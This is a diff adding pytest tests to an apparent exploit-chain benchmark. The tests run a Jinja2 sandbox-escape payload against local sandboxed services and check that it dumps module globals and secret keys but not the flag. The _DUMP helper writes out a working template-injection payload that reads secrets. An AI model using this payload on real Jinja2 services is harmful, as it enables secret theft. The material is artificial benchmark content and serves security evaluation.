@@ -193,3 +193,51 @@ def test_the_chains_include_an_auth_bypass_into_data_access_and_a_leak_into_code
     roles = [chain.roles for chain in CHAINS]
     assert any(r[0].startswith("information leak") and "code execution" in r[-1] for r in roles)
     assert any("data access" in r[-1] for r in roles)  # no code runs: a record is read
+
+
+# "chains3": Python-only chains whose first link is the Jinja2 escape keep the flag in an
+# in-memory SQLite database, out of reach of attribute and item lookups; the escape only
+# dumps the globals (the service's and its helper module's), which hold the key, no flag
+ESCAPE_ONLY = {
+    "chain-jinja2-pyjwt-ledger-export": ("/invoice/preview", "invoice", "VERIFY_KEY"),
+    "chain-jinja2-pyyaml-ci-pipeline": ("/notify/preview", "build", "IMPORT_TOKEN"),
+    "chain-jinja2-pyxdg-desktop-menu": ("/banner/preview", "user", "MENU_KEY"),
+}
+_DUMP = r"""
+import urllib.parse, urllib.request
+spec = "{o.__init__.__globals__} {o.__init__.__globals__[_svc].__dict__}"
+template = "{{ %r.format_map({'o': %s}) }}" % (spec, NAME)
+form = urllib.parse.urlencode({"template": template}).encode()
+print(urllib.request.urlopen("http://127.0.0.1:9000" + PATH, form, timeout=10).read().decode())
+"""
+
+
+async def _escape_dump(chain_id: str) -> tuple[str, str]:
+    path, name, _key = ESCAPE_ONLY[chain_id]
+    box = await BwrapSandboxEnvironment.start(BwrapConfig())
+    flag = new_flag()
+    try:
+        await install(chain_build(chain_by_id(chain_id), flag), box)
+        code = f"PATH, NAME = {path!r}, {name!r}\n" + _DUMP
+        return flag, (await box.exec(["python3", "-c", code], timeout=60)).stdout
+    finally:
+        await box.stop()
+
+
+def test_the_escape_only_chains_are_registered():
+    assert set(ESCAPE_ONLY) <= set(ALL)
+    for chain_id in ESCAPE_ONLY:
+        chain = chain_by_id(chain_id)
+        assert chain.links[0] == "jinja2-sandbox-format-map" and not chain.node
+        assert "del FLAG" in chain.python  # the flag leaves the globals once stored
+
+
+@needs_bwrap
+@pytest.mark.slow
+@pytest.mark.skipif(not EVERY, reason="sandboxed escapes (10 s): set PREREVIEW_REALWORLD_ALL=1")
+@pytest.mark.parametrize("chain_id", sorted(ESCAPE_ONLY))
+def test_the_jinja2_escape_alone_reads_the_key_but_not_the_flag(chain_id: str):
+    flag, output = asyncio.run(_escape_dump(chain_id))
+    key_name = ESCAPE_ONLY[chain_id][2]
+    assert f"'{key_name}':" in output and "'take_flag':" in output, output[:500]
+    assert flag not in output
